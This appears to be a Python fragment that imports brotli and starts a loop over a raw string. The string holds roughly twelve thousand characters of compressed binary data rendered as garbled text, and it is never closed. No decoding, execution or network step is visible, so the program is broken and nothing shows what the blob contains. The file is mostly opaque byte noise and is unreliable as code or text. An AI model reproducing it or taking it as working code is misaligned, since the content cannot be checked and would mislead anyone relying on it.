import brotli
n=a=0;b=1
for c in r'''/r>GXMױOV=K_ts}t?:j_EQ1nuoiy:ݐO)Ǜzg[)ВҴ;YT3ݧa>u(D*q"~kr(AODU<>[8~S\(dн"C(5S}EImfJk,W׈p}O,oG_x<<h]ߗs)yLEDUK`p^P!}&hjj	O>;gݸj%i
q\0
Kol*#;޲^΂$UCm{Iѩ5B:}|@ݒqijůg"4ݐ)b
AгU[0>q1Iݜ0Vܡǜ[S~|>fkxdNvGFCA͆uClML\U@}/x*xkEj3HcU v؊@UZ͵TuJ@pSm~g2\X?eNDתa)K.p4QC.>ۅuA8'MxJZQ_7A-Pvw2׸=;hԑ1wȜ#)޶ULɎv\c/"o#	%\ǅͶ
kSu5H^q4Y{RXwgPZ#&Tfg0/#s˓ǝT5¹҄O9eMD.0[	${=QdWD۰g%}#:Qj'ֶ$Ni?EsV	UeήUVgGD7gEm-Ne1ɢb|)z!W4"y?uS^7eY&׀<́%Xr,M",,]\f*(ZfZ
Eڇ)#|2ܭ5pɾGVӭE}QɴbQRQ(٘Ow-bٺ(\Ú<f:@X P7l}ahM-
Xɇ$V94<J{(Rʁ֟ǇѹhR4V6S1-="3%EY};_;FU[	483cߎvxP`ӌw.Ρ<E׺zTJR`z67`8b5е	D,nҍwNJkoFFQX/PKuD͹OÕ)}b2i]ŘzcIşb)?֏'ޘ>H'} LLsd]Ab?u.pkB"uq>r? 8*ؗ%qF
Nj0β~0Ɨ8`o9cQblzãȖvO;|UZ܉0iR]mK<mQ--ލ$|G87Fa]`#*/.Pɕ02ٻ%-X$|gUVRR69,qe\!&z͎eԋ67:TP?z_EEvɜ3N/'ى=_VdOM 3W9:DcܯT\dW(9`Iέ *ӻ+ek	͢]ȊpY6"R'}Y7BĲ\]w!|.<T~ӫ5vvߘ-/]i9ElOoE
1NGܛ:vGXl$M}o
!qF/BjbtA3'Ak~05sżʝF|Cz޹n6T(DٱS@ȗz
	XZNb{)[!ixi	Cޕ>0.m.^#]хa-6*ǼgKbֲ.c\Feo#SZUl}pFsW8x|:-hifĪx]d*4u/v6O48JPˮp(t ̩?g%Uqԕ>"ݷEZ	+
vgJo:m vHbyr/'M4hZb)͜?:JѿVfKQkhHvT+RЖL^1)]@ZYTOցNdGcS5Ş:qov9?nhb\84ڄ:tʃrUzI"QdGO3s .kȳd.e(QgǴXfB`.6۟9H/Pʭ#CW˷u{dQWy+qvE>oQZD
\\pTݰCute5Ud:mUWK+r\HTJͽQ.O/p;G187Bg@{:3 )|msyMǐo%nMw;F{¸0nl}2;ӓ,s:ewU_٨Lhԇ!L#hɪ-I}Z\[5q7ȕ#a_HYp}6J/Cײ,EŦA˩9]Tal^4hؾ)+8f&MR~SkMϫ̠JLδ,&u?B!yz%nܢ5<`ɊSPŪLyan5ÇݡsO?ˁ}XHkz]$o-(,ɺaf]gtrE Vƛ?:؅/ur؇ QY]`sF2
ʕ۝y;η*w	,uԼ"5G0(!$[0|mԖlVӕUȐ4G
7Eܥh9Yaҁlg4B֩NfDc*uǙ#,
Ԗ$˺KFvhL=Я""j$@{hu\Df~֋̫>Ǆf݁0n)p:_R?gm%d΅p/sha%:)Z8U;ÄwxQ1~2 2~?{GbNגƾƧ]܃mgxtjx85L)")g`-͌2c_"2)yGTGQRcjz.|ÍixHY`5oϧ"Tȧz"Ņ#f 0nklȐYMBg^KUd%ƫZ)AlBH?*ڙߗ!'֘I$UDU~2=k|&(r8^XYpON6\d;!;H=]\Wɕw-<(1F}/`!Yl!lДm߭לFdVxyAq	D
M[;'ߜх-܇E>9N.u|ҧ`{KEUL˃t	zƻu[k?D^աʓXˡJe2ΩPdpUt]o;a;EE	Z(`r UI6<PSQơę##MIsSqx`%q|h!UF[uܰAM
Qtv@xtܹuaϏ.Gҙw9ze9>cx(iVzO.Ir(6:کKBx@xƫ c=:A`Qys*ؿ\(N<!ؒD; h͘YN1pS(XsRiMMGwʇb@E'`Koג!ʸl.drG?AUФ jfN&FCM Y3
#ڙk"s1R$Zגgƚ`j>Ϡ?{L)bdЉ.u0ŸAӲ;u1'ˡ=6%g"R	[TS`?Fw\=7o Xǂ#V3mYUC>"EΧ|63_*Jρh9+<בN=}-ZtVUontgLԭTƽf=gpWsͥ[! "=ߋ5lD(X8'T1bU_,&JGhçl@lk*2َVV|ԏSt4Hi/.BJ'ѲcD5xNs[_xGfeͨrN.`قPwWXGܑRdXD.5Ơٶu*jCt1L=-86$0&ʀcPVhB>I?R&)W)to(<GWMʘ:i	3Ve=3*U/xaB=sA4T$WpӅɏhEi=-+ݱ"Fo/7n6Y2`@M|,ĕ%l}(,?؊nKP^{%3%BIYC*ڜ+d"Lux҇vB;FM̯ո˨K/dz_EWn=u!2S&bM/Q:Y pU4^P0f*D*gN{[1{8Z	AIK/-hѶЋ?%cr4Qx\XߨɩT]H<¯=-]{V`'I'(T/UJKe-aC
5Y>TA>ݗO;?̓$fYAvִ8PSY\n[ԐΏ̫ˌǱH?MAS\OV4-PZȢ,XMs̊ef9sX=r_gmψV:OkT!sT+t
Å?&9ET/
Iiڿ|	ׇàFTyw3:.ÍX`ӀZ^_ClSٌJLkS*Άqq9ݮՠ{%7:tMz1]NT&2(4sey؍ylvWߋ{W <xWã]t{-P#ef9ױsfQcm۫"Tz;?XmykKTY]ەe%jsA/G8kEPENΗjiuQ%8N:wڅ`,5ݥOzA?rzQ+Dm!U&WomfϽٍ4HԔŢU]t%1}fO$6cfH0E*x0AݓY=yBhU_e|#}.A*uըx+H*^Ⱥ#u#j/~uià̈́B^RI1³|3653ط&,В?(Yt:;Ʒ݄h~eO@Q'&oPvӷBGEpD(Zk+ݴj=<Ͷ҂lϗ0İtp"!ΈShеUnsy=ϑ("eGJ\+7rwhlQ9٬MŽqkpg9N,TQ|Wwsv.!~ˆibmy#_C\5UNYқʬ4C,VDцvsƃ2nWL²psײxqAiTѸ5Ν<~И(*βDӸֲcNӗ2|XR#j2ҞQ?0Kn̣= ؿ`~/{^ʘʑZ &1`U"W}F	ԙsĥjƝOHT*		5ۘʌ|gQedEnȸg"9M^/ĕ=~rUYإIhi-p;ǛyÜQLX*ah"\}Ő;U:s[м9iʿyG(uV@%MUȧ8!Wϭ.i7
j+)Qۍ=K(̚Y'Vh+]p0Taml
Vۜw:
ݟl@T#n.NGmk=KW%oNq:DyP&cjwCT3&GPK8uQإC_ӝ*"ge_8E8%y#ڃ$ǹʈ=-%m;خ)}!}[]4Lgî	Soܧ3=M)pE"X(kj[y߁j=a?'{W4JCONS/) k548@tJg_}*
ذq4?<HˢJ`Q|2XwT}@;GqёRQ<^2{Dz7|fKǂ=SzҪ/C|zkmM)2X>]e	6/l~	ۧJ71wp7[DȄ@&xb^K=֘{V!p[\sg	k|i",yH(B]_żRx9qX,i)Bh>uhPڒx$T6ʐ$(%S:FfԦA7ܷ0+׮UuPȮ6ԣUdxt%(w(*8 e~qBXȻ=QL%*Id"i4T||;XG@-ҷЀO;<ڡV	OE΋eiNBE]Cy.yܤ*ԕ7)vQuoJ"aVt6?©	І_\8HEs=Xމ%\PՁvJ&t5m|5BnŃԓb4AV²"Fpg~|չYBT0y)*֏o$-o=znѶ.#+َ;^\gpcϖ)('ɓΜDzeJZ;15@ΕC"Iq<)ǿ ^
Kd5!=_\YiQ}*ǭ!r<39|p.ǔ'iɮG3əya'kHO߹=Cɽ4lݬ}~Wк- stMf.(>G{cN]J[<Օ.M&ټeHs.̈́*ʋX:#Ӆ#5aiȵx%ɎT:!~2tBSdCo_dʙWswZJRžX,.jlPWjWFOh]glXlWH-@w,l,iOn9282JAiԗ6Q]S*sӮhrd	/n.=]C~dHIR4L@{5YD_Erc
ܙ֗ϐ5Jy,f>۱-{5TEHAitKgƹ2lLԔG2Ex6nsI4m`JNA[ߦ0ʜnΤP60I>*PzZ	oXHŧǸ+K7Pj#4Fg4ݫDNR%DEߪ;BwH
uOG*ʊBHJa+^*CfLǃ02J#d%1RINF-K[{{5C|_A*M1ށ%̓>pb!QC!([OEuŉ2pwkTsNCt	(9"dhDy>0.¨F߅.+V8WQ|nn3~dF-{Ce0!ʈ6=,8TНۅγ><GAdsxn)͉R}H]U.{C,S70CD$uΡBAܴX% MSLmӬ3*U8/Rt]cL${~Kgt[N(+Eͯ*J<=*/@>`^lͳV1ecݡCujN	]Q}<#݌_Etbbĺq698/`a§5;jw"ջ)LCP*~NϤnM{?XAph;<Жo%pӠyѱ([F7Sqq/eӦ˙)`-ދ7|Űy!VU<bbVͫ7֤UDhm.jz_6
]T{צ>u̡v!}	MBD"3HB":\lBOLF9y"Dj}X)5yML6Ŵ̙U+@̢Q?'siҋ<5#gbRJ</ڧ̊<]-Ŷrə=s}XH
*UЗHtąȄ+XU,J(wrUOۆnƟ˂yKn+Bҥ>C%ѳƿhCt|byoU&TWIp;Y)`t{@ЉPBmwo~)OVی0sٗlekաG!9Vz^ЕAyؼTitN6qYipoooBd^GwJHJ)W'SOi[S]_҆'lo/N|֍OhITچƱ5IGk^'H(7L٧~Ϟmf_"nK\^N/.yȢVޡRL}{ [2ޯFMx5nJM>?DƧ!	b'̭#vpѧ;TߴRly%iB)l?Y۽MKל%ZDa͑V4}^ŖVu(LД9&Εߗ74͞|V.|˖,*a#Ȅ;hKښ@g-(z1lT8_/Ֆ}H4ìYCl^&.EC#m5E2Y@SK\pzхT7W	C¹YCrc12zu]և$~(yzi2kV[,aȇ˴S+_~l׶£8ҡ8,j},ZmSֹpQ;ۡvtW8d^ͲfKz9[ã8!Pp[vX0i߳BtdܳݑSil|x'6	6Sޕp))gcRYÿc
lpjG:~&լǖr,\"0(*cy&20E L}ɀPӊY"of8I9,`Hx9'P>ƭd֓Ӭp#Ɗë)S
e˩sc"ڋS¨a.L:~*]ǀ.Cp3"('p	Afn%m$4
^;MiLCc3"D:xmV+m	O.JfaABy;!^zi
x!%Ao]ܶTKu5!]EZRWoEݾ{L,nG\ھS0f~"*FPN׀bx
u}[\k3d܊DJ|LSaIǬ/S8r>ɈU%X8bwӇ#]qͧrpJ7Zv;=}s[rApA!c0ٴ>(~Bz"B(tg!0iKsp>")B=jhrˢ?MS*ȋg>o%U@ed#l~Zv%*ĉ2FWEh9kPY7l0kp$SzRaC'Q}dWgF	ugi|uN=b	[C׸yNGGB&)
NV:o4?^bW.bJd+,1_J7U=l&F ;CZG̹HS0ҌY	k+E0 %'im$xtarxͷ&p@EN]Nb]b,äM;Ek O?3ւj*J	UQPkC=@<s>QVدPS&M{slݚݿRٻC@΁@^MGԶ̒zaR˹ʷu|7cy\{ي;	e:]x ""xvfPB&ڤfsvr/YFh@eE:h[xČwBاcqXa#2[=*?ŞyC
%ݎ?\G	ȱ[¥e~?ܓlE0
ǯMW,V(),Ɠ
k#aVldsRO]FDۚ%&m/5DM8C\uȷwiecj4T.aSfTh-͆PL҈D}̧L ߶
	/y,Ա0KȉSP2X=Lu.j5XcMb8K9µbsb3_`#ˣ.Izї'l߸cfy	֠HIz^,%@r6ZHYlef8fBٸ& #Ű%4t-jP;tˆsw!+\2ޞEʤuZN'@;!*m-}vXWR(n0(9Đe٧^V٣ḯL܁Q+V`*\YfdiDG,FdQz/_}*כ/~t>D׍cm@ 
GB;/yԨ2Տ;9Cv&؁_HUTP֓mcM"=ӚΚ'˹4!qw!͍#rdSpΟ@VٱBv@E?CU*m+$JaWΟ?W+գ-D &ӈ`'3$P(N>(C¦0Iy^̚j|;g=br#2*λ3l	n	`̩FNP%GoWYA;ryS];2rvY
]\ʵ=7۲bE-ǌi7/ސ`ީ_|gӗj6JuRnڨؽY5+1<g(*ao%7J^F:tg˪qފ1I5F\݁?seŊGϵwQ:AȚUHb۠\h&]If-5;Ե-S,roĴ9H.C.2|{Y%K,=t͠.nrEĭ. +;R^1XCڦ%n{flcsHGΒ|VZqUar+|ZUʹr=F ۀB-MU6rה}Uy*Dp42Ni29qq%+75*/Tu%xe`2wId#>րeE)yMz7t9./\k@l΁eiXG<xgiPa©bCv;Fi*+ρH˙k_%4Fi]kY=	TtjFn2DÄ)ʗ
F<!׵Qf{rs%:ً+Lhl1}&.<ίae1yBtNg	z)7ݙϿRe~ەVw/6x*Fa>"_RGJ<4!TChVAbC/ƩH8^8fLJթs%jОcxV|^!WٙsJ+,ѽ?<#$2F7RoNѯFIvG9!x*cjXcalEȏ\ʒ[VNHs"9w(؀aHGt*qE::)uʍiªJA]qR]o`Ǻ?v.&Gυu	
4./˹h}Xu
&(z2Oݷv_N=-Ւ(UBi<:Ϯgo%۾?\A߸ި&@ЧwIeQτ5fȔۀG6&<e%E/!aiD3u5~tocMHL)ܐ/Kv`:ի?dFaOQȒl.)Ԟ;zh@|wnǙnaQaT+kVx^^װv]NvB܁޹ McAkI7OOn<4:+I/F\HwZ:'Ad4ň~֋	L#b*$͟4zWwp[A,o(?	nޖM۽duюgozD>k5D*ưk\HX+nuo!Tʕ*w/)"iL|ʏ'D}0^CY0
4ǹo%ooImM}mgDRe}=AX L:NrA%rsNSMc1M&#|IԖN]Stqãn^XudTScbBs
vnB2ҹ;ӚcnwXԝ+O57[c߭ZкW{(po=h{7!;vt{G,KpRL-ʄV_%+w
yp9Ɋۃђnšܨk`ٗ#܉F7}ņrc4"@b
־ֆ½$^8+ m
wL+;Q.;d)PԼYbߐ=-hNÑ};	DʃLZݐ\W֤:?hS*a~~R*u_ao1̞NPpr89"~x"h.EuӇeSy&H\X(y"eݬ0Qg9ydg	A
hDË͑jͮDpKin.p/IkY͆E"$CƸǟzp1+:Hɗ|CoL:o>%S8Ik03tٲi5q<0`-9ݡAhz١Z̐AK+0m]wAnҲAkYznIޏ%Աb<</@D^&Qe,ߩeqqۣAAZ)yOb,>NDKW\FcEI8`͏ڥ<^ ɵ7W_6qj˃lLoW<ώZW ̒FӜ<v]Ő\ Eۇs]X0/޷0zP<L
R[@F Cޫ7UN6(um5֐gS{QOڂƺ
+'%"HNSI5},Qy)chxX;dxTk(pw1/?0 3P`}6*=7{fߎG@X3no̫͒bqD3.3u|ڭ]?ʭV'nɘUrk
&ũL8B8([0ԪEtϸj̀dd~u*iؾ۲M-˃OƂۗ},"(2p.<5
]ġI,zI*3LIך3<Ur̈́yĚQy}[{;ę=nVإ־ӆ4;C.̷.̫ގf<bîXhь"!t8eԭuh|_F_l'6H̤Ta۲4x^BʅOgЛ3~yR6(޶%E5	0N:3(qY2\BSAQ(Ѳ#ę[gfb;4iAƋ)1_#?:M?FYHZŁ3ِl{9}o_HW	vV&Kstt;5ٳ2ODX&y,AnU\3(yY^qݛ	@ƁZۡ$^e:RXQLİC~Dӎ18dZ'xeʃcc6^W!"-B&?n<-$h1>)jI.!@x@=d°bٙb	ƌ.u0wҋ=S\uP)%kcPn-οn~V[Sd5DFQz#ֹFn4By#~Lqe[<<:K՛V1fԪ١)~-)XB!uCB_xohsH͈*/Rݐ9  #)RbצvZḍ/\#	nK,K>cVd<m!i(ć-nӈ;چ!iFo,*mdu+rG;ȯAѡ(&#D%HCPӖ*C՛Mj-	d"˯'$1Gf*Cd$	hj$֔I2)fIfRP'ujW|K$k]S`-D+vX<Lk,//}R͘[.ӷ߉L\,֯g3NEMIB:p~]ۦ٘}4)!dn(֭{4qݒ`$w/a'$ Ӿ%s)tbxK|)C"ܞU5S(@tU»1inB	(d@HoYըuMzҷnW^"7e43T!X	{ Io܈PVGЛ%
{ӌ{Da_}38FH3#f1sgy|aڿU@6@/adMDdN/ΪK܃d&}[ښ7Sxu-gcű8T8"ʓR+3=.'kKMEETv1Yvb`([գިΙt^ċkIߧy	B9f$bmtb׿\~h'w\ߤ> 9\&`:QI0kE*gϬokRh"x,P`Çn:`5ˮG{;~VU@&̞v!Ӛ{fӯIK
O	Oa$Zr®Z9ŖF{p6	ѡ_m&wvغɈi$91L#RsqeD&\dP.Nۑk	A,E!׉=Lu[a
H3TA}'rFe0XfldKTV$ܽ5X?.xxܹF!=P!p7\Kcɧإu]O	77Dpځ]Pe+bYP`
!k!ӆBު	Ds@ɬ#ox7}mx3n2،M)3Ԉǝ[ܚ->Fl M:Fvo*bd<oΏ[%_C]CTOЍlka۴D5yn0azΌ7wEիiEas}&^Eޖ9UGm&]~
#Tf"}ߖ/xh@!ߜ:YRͻq2
	|PB
Yn͊xw,!+|m|<E^Vфg?h`9X¶:v/7~aR8/pOdfQ)!F"w!QhStlimdюh9<ȐC̃$ c6~FhPh/15R8Y\۞pjSBDU{n;C{3v|"K $:nZ[)J<f1lů$2o͕qew$`7ͩdсj|yzٟE=_+2cߵFMBČv|_mRҚI\!lE0#''KCI}n8g%x
R(*w0vեc=F_v+)s]@#<bC!6> (^TC#bGYbJя'.[߹lxuHyI[Ǹlf 2hNQ%))64r|3n2]igizN*"/rt"p׆QXǭujfF)h޽>³˫T̖D9&3oY!نg}ڑ	ҶUh8HB#JJֶ4U]@vQ7x;i3_<p GdΠ(>to&E$'Hۙn_Uy#"N.`^rz2NȥHٖY9#=uRٲ|7Ԁ5dRMӍ/?Pڲ>
Tk˪HkFpؓp^p.A?ѽ֍:8}cc/-hDr[h5Ǒ'Ճ7TB-N{
3Ca-pfVq.Сl͸AT!
Jvyǭm]?aLQۡU˱ԭ٢s3N3(\;LCxG';lh_8u>[ENx|qgڡ,p_c-=P'ej}Ά-4)z^,r(9d}9	8ZojhzoߝJ+C+aM#,&PNH	I0q.e
W.+gW>ܾ?V:tB?>4\j=XϧY[fvW,4Ev3|!cMAw`uܶ78eCݏ[a:zҐR0k]Py#a>ʎӟ$;E^YWǦr8Q+Ƃ} j^":2%wKJ{*YeZΗk?5Sʼb(:
bcaJwiˊˢi?-pS#zrƸ9ʺ0\Ar9٧ɻXBXTZS.lX!K<a>/$$]1?h̒Q+ӂqױB\γ=^\Dgf`bYΩ>Ĵ\yEI?q԰Ёq2ChۨĞBнJ<3nFQixPmVCݲIke(ց'i[70d?L:+ZŤǜsqJD
yѹ޺?,$fx$p.!$ڻ?tJ9G_Ҕ3g0HԘg.K0@tf+ԑeEϒFƒۇxSG8>N//+TPѥ
 	u>DO-ړQ	
R)XtqN$U W\Bnrv)*1ٙ|"8AOh4#i8ڕ0N+AmPvݗij}!{tN5YSX'T]GEUȓojκڿRYtEdʐoe"a<ȭ*1Κېui;j5Zma#Pn̅i\+ס6HxlQowQɘb݉@B2-2RjJCx(a{;ς%AvyP,sϧa	gXӰ@̑փU7~3iJ)GG?9mFÐѢwO NNNo|պTeߝtߴlHޫG]΢ˋKۣOv?I7->W=zr
~-̠43e99)$,']$Z-:;4WaO)D;.],?dqjkiGlmq߱5 B.ŪƔ+'G2{bZ^ݔZ0Xt\ԥgBi+ƍIV]͘__[|wݏ.nr)q<Nk'Ct;D^#(75._7h\7h
_?trs.сTpٜMڻ}Ex*
|Xqw$^]ٕTӯd{Ln|6)4r;9F")d]'­)/7v{zH"6^B*&^؛>&= \	*|e
)Q\@'^DIWSc7r8[XspʻDzheqՕ5EgvCO-[p3Xќ+F+AmD$XI|W9Z^NRSӢ˰ A~Zé[0H\#}3:WqecV*yU
sMPnwDpD.94Iä<afT/*WP0.P~[9O"?>+CEg'_ʑį&Xs>~eRe-E,$lEl@IgWӽА޾YՈy1oTs3ϛvCKлOM|:?¤<	bnʩ	yPVΛ(5m4JVa:ߴ})bTfVaplZa9"j$~Օ&ݳˁkÚx`
L\@}E6b~-dI0V)ZH+>Igy32[OhWf.cF̰J=^̎)u~I<L?Qd	SrB}@ZYqIXvԸ0Jay&;2QqD	qztMBBӂnX֔;?pA:`b`I͔jW1/%{VGx}OÎX׷B̍@.79\<z)hq[y.|+Xo"Ay̸yżHJ]dpˆ$5UB4: %8/6j1#-
aҾ*1:зz_sј_[xm|t!5tZAVet#@W#wgVgWOZBBgM,=ZIt W^nĻқެ(9BHNvÍ܏%PBZ~	a`Sg݉*iˬ5<3ڮ~1KuܓI(RЗ h1>'@̇``p'OCU5Yw]a+)k'k{ppetv}ŁtccWfq̌ɯ!ܻbUܼ2źgn*u71$o#|A0"_ú%>@Rފ+^В>ʝ33BH3mmf%'6ڔ~MYHtvsǎO	4Giݮ}{/E
D)3Ŵڂwr*P]Ȓ?4aqFhəh&1[Te,[&X;.BPrb|V6*!Y{ٯV=81$&߶)}  /Rt)OMrDRQ3?݌}+Rև@Cj#;ȫggIܶѦ[2)6$\CľmP~qU9Ϲh͖:g?flߍ~zmأVu}WoIagI(mAsf e<Y$Y&Frwzl2t@ù%ϓ>nqSbWo5#!S 	t'.zfQ0EE,^./"KAbQ&z<Ǵ;̑DdϨ!LZi3'ܟ
O)P[ن2aJH+zWj*7:Ξ@]ƣnWNLwʭ˯'׷w.~E2Q|dAWOV'zʵ(}EI.C!	[́˼ymrL|lɟ[]¯$!C.ǱfSٍُ!\O<t't~(t-yM#ӁSj֊:'wqTlJL*נqAC{r;~!܀8<v#ǢzZ.՟~ {x,{*</-sa*H:Wɒ]ydÈc+rzʑ;:"ْ$`U3ŝК=XZ;ʋӫ}ߎG3E;W?iDՠA`˯zkCVRhH"&(ܹhWF;_C]XuȨTp:˃)3i>oݶoXΙrѠèo\Mfʥ$hы3>=O10C7U@e7^b(ə{?PA`EH`m5Qf1ׁ].:*ܥ)HbXj; tRY.?r]!lwؐհ8՝].Qig@k?y_zT0kӁg}@GܵPY{/a^~G?BM(m]@z%՗u;{Qxm\m*D">V%9R#ӄ<RJt1Pϟ&Zȋ˞:Ou$Ðf>
=̺pT\rOsڠǸBǹ.l'.G?Cr(ŝ	܃~|qbfU_ClN()6;H{'inÖ ugwCW({A^CYWץE<ƍvzڏg_"Hjgux×3ڏę86U!%@[m}+rIJi<>{;WThǽQB.mrNyCt˭cơntuР>ݪ_֕^xP],;)G07`(̼CȹLӶ@֫
S%RGKR1ݥ6l6MмR ikK)%tҖ`SEОhZF(*ci*h&Vж^FB~%nNA#ٖ,;E{P.V?aѥ6̳>(.5+PHONǐyARP-{]4D^{O~E]þro1A	ݿ=j?׍YQxfskmvg(/ވLdMiP+@ВhG<ʧ'<OޚRsJe/aCjP>>q׿ݥLv/9I=O#ۃ{l
@=!KLZ\_[g"ۭNնGSS"PX2s:$?˷mNvMS;M&ơz^Ҳ- w+
ւQ
B7ha-8tu(۪g17-)/,?vEtΜKO~܌sTm*^"iZ5\g}D$I9՜nݽq^#O}}0PUo3B7֜mB65܄yы" 15"9'^$M(tߐ.,ȳ[:)^EH
:s	Ƞ][O#yШإm!nuծ_c3W_X
nogHhkh^vCж5.l73H+q¯`jhs
?@nʑۂb4E-`?p]m0wΚ1@Js&Wۄ܄KzиK"5ۿdt*syB0CzN6,%N9t{xÓ#&\}_oGoN?'ҟ5I+ޛ ρHX̦A"0'nVVpQ3e,Z<D`ζJ	'ZM
,7Ǥ$-'Vժo]w=o$(X`f=LypQү!łlF-xYCڮ7׺΁Ojן$޿֝ęp3sd3C[ތeL"c[.cܦdۼVګ~ьFS&[ǜaW
E?N5}mU|U`aͬ7Ir5 j$²)Ԍfu)TĢE8=y,T.0?~.luiT$[_#u8Oxo{߂Puj6T ͬU1 bM\/mfuޅč&buWemGqIӠx-ˠ̉Y}-Aw9¦1
κ֝߂W,Uϕr1#xtXľ߇EK}%!< 1D}jhYBht55DHgtnMXb>ph	LMI.2ƧK_R'aX0T^I,PTp rT<#^nh2]E~=8͆IՁ(-la;
"};wв/P߾YѲYc ָ|PvU4.*(Qoid׿]6Ad>LzCKYѹRMqz]/-lfZ|BK`Bb7=^]06C7	!:`3s6B"QJ-%uT:}/(UEI>kXאQϹf:ˢY*CEvJ&3ţEFPJ88>[
cS1{:@ș9[͢ȫ̳)md6GuX>L.J	W4_X|^sDDE]g{ܟ'E([6	tuSȧAל	,ܵ;	&"!g(P.}7kgad#!?:kQ=lҨ-mx-RvUqYz.c:a*-~܎vZr,f
2jbf؁̀>$e$1h(ф  JB=z:4`<w?s&,3=:Eʴ%,Q
73¢nZ@U)/nѝ|zufe?
U8߃%~.I>T̎%77Z`Zҫ:{INf|I$V"<)*,ckAB^phXTot,}oWSS=ke^w!
ӳ-$U׹Or0-yjNA.V=~E,3@nM~w!yzhKەzLaYne'#gsN
ue-MpT ¯:ߦ|U#/}NJYZdԇ2۸<{A=Pg=:Oï$ I^Ϩ#۞>_<@dߵ~EpaݷQ0CǊ Tl\j*tP/}cIۃ4dD*MT\ZNIcǴ\tj5^hưYP6,!ISmMrIXZew%O~S(|y(BGzFz":OdU<nR=gdǹgg2`˛kYQe@0ZrRz?!*sԃEݝ8mMͮkv=j?ժy,_i}0R]̨}zh]Pd;ȚPrV&4D2TB6ft׻N{bۺ+fYֲ:X]ٞ7WLKKhPqgՔ\DZHP?X'tx]F;CSٶ'3UiUY-KϘ	˹?Ԑ<28\M?-$<0t%P4	qElؿ%ܭKUAK΂J6}	Z|I˱Yĩ÷Xpcp4ɖév%'s"ѮWD~c'{В΄?ʆEŇ/֒[{:ēiY5.J9/
S2חGYPV|ʚދ2#|*%T`J,gWξ~bZ֘;^\zhn7Sؗ;Hx4z}gZ5˛ʯ@B@K3'BPzh56S57>͑ڳW< 0ԄQȼgH܍tU)O'TNTtEj*"'ݕ[֨ ~!V'*>"HՁ|s=ӊts
45h,WG*˫1naPTS&]I^/߱ǻXgpYwXu68yPZ"G6zҡt!G@$3(YŹw:Y'%}[4Eʔ9!iE=Ygظ]6oYdnCu{ϣЕ@o-9@Qm%=̰S<QF.\cOޘޣ?B28Mt9$7J%l5(&| o(hWX"$;M\o;Be[9˱kL8HŽv}6dI!	H"`	uwۆ.Ȥ%w,7j<JkPn7):[рD3Mh|جC7#.Z=vՄ_Ap@#zmӔjg3~)Ƣj;V$xkJſP@(ޟ!R|kJ`O߷õOQw̻{Ncª<	˫s	bi")ħuy#y/rn۽خѲ	P7;O,ߢ56ٌӳӪ
_?zÃ}ŅW%5xi#91J541i?#D8ƒ|?,548֗Z̫"ƅhJjCtoRq.e}n"u|ԣ|^;'ac¿2%æJĄ	ܕM	)lx`QǊl3<o=OrlahSDy7`c)C\KCʿ8;ץ%٪CJ0sCNKћpmTI{ضٷ#ɠ[!N\:oõ+(n+ Cלޭ]udhUY	nԵپֶ'	G^+'RV"_̔܊qrRyOo1&!"Sɞ{J$G_-%hqOtjͼƛΓVqԊ#8~pYM\F9jC}_:zO9lɁ$Ue"&TD1+܏\}ǇŎ%Ŏ]	D[3"sB\reu.}[v+%!~tȜK޻ʗ9lr߷q=ZF.3m=g4/ɑbedAa؀+Kp->MNlUF:.~gYM-ŗ]b+؄HZk
0{J`\ <TB~NF77lItG̏qP٩(,	B>Csrghآ=O%'y
{UՂ٤X*De#]w"xHHz2}eP9թɅ?vB K#/0A"Cz$:*uSv5tjr5kKʅSc"ѝĹIl,L+aJzu֘4	Cvx/vPl"$04yE$SHsm! [['ؠ3_.*9a,|E[&'jz(AfYwhPx&vzT,ۊB63ozߔUͤ'
F٤IA_eq.FR`Vϳe#WЈ 4yJCPnyWǔ!	5>?ڥ`3Լ!Wmd50s+b m[	2χ܈hm= `8ge>y1#RrrB$̑r҂JJ)͞4ڠSfމ7fw#y{s
LfX	ac6
\@T5ՎN.hyXʧf6~ZΆl%
E2hp#ȞںJEĨ[w
RAԏm\- .'9WhEaeҼe_zB˓Z:n:'ZV%(\&c
2{_ԩ8cL{^>X4tTe	ʴNt\(߀ćz(";0|yXSm)F3n)g$elSqB2j<̞@LqN:ѓeǡ*PVPAs
io5Yq_lYM?M0UWSRҗߘ}Vs.`V@owɫkg'ء;8w-`Yy<IUbՠNOߎܰnͥY_<"	_ o,Ywhw !Ƣ8SsŀK ̃b06BtZ20ŚƟZаQIfwy`?D'LNDOnS4\6O{\¤K6 q@did<ƒ0\m"Zcbp[|O;E &/NR,LmN/x^ofݦͦ6KԴ|KqF6vSh1ѪZ*eE҆u5'θwf9Kn'F@'}Z<skӑlME<ِOXI.'s^5iAz֤DRpArF	0;1_2P(DmPHRp׻^>v%1BA\ԌTobe=BocƵ0nwZ<sDjrW3[(Po+kի݆sm̉ͼìxH=&Bomqf=M%PYͅP4%T^#ZхfEA"ȃ۷r}BKD$]D-	J..e/=u1*.`\g4:E?c|JtD N)ʉbNҕg7-^vTPJjâ3x_ւj,gu>p#5j1R*C˄R51oҲ٬ovj?)ԘHUkGYޓo܇M5w9MhuOVCɡO߄]3h?DN<!τ)^kJzL8ԝ<ڠ$	xָg,	2)G߅~bi.m39{t(!0љEh_Mx^T1Lj&5)`T \To̍]\]bF]D^DW3Ai84Ikۄց(?>Ug25K1Y"75	qi0ǥlȸhcW_oBzp^A:dq}k5X4q^t!Ft`³@|8A@OPh%vBol+10/fB8T׌iڛ?fݫr!1.iS^&4e{LjQs~2a7YuԄj{DŗDlW?Wc0~g-:#0cF,ђ.|wtvps)0lt_JLÇqSI@j>h[!5<gyuc3M59VoչFÂCGn8)(4OGd9$NŌj/m7PLz:P[9u OסOm3gjiQ!Ϩ>߇Ns,u3*l4
׷mG>Twlm`%)B,81jyϰ%UT0]I-w1X~9HHǇ9S<ˏf<,S|ʻ}Fh4	tO2d!BÉGvV&:Is]B'pLפŭcχ?`xֽ>'ͿѤ7U^sED,{#Brzu]{J
=+i2:|OcvR#dV|_݆a^^86yeS{~<Kb!pvKF~pCfrma:)I}Xcɳjګ4AVJqLPms	EٸHBȌ#v6r`3<sb<Ѩz'Ѻڤ]sȗ
6c~ys&\OL|@momށ!x:`)?JuBF=L4F(VONXɁܵ7q=zs1޾*ȃŚ	dSڼ}6ʦޣ;;dHz8Wnz¹NnҐ}Ckܭ!Vm[U#^dK`^t!2bc#%ɲK1:љPڲ*LɤȻwZ"%87>KIy%#Ӑ	XjozنOkQkŧT3y5U@7rC0Ȳ6.,!UpP;WdE1]5j9/3pz KWtvAp̲!*`4; XJδ؂zJ:I
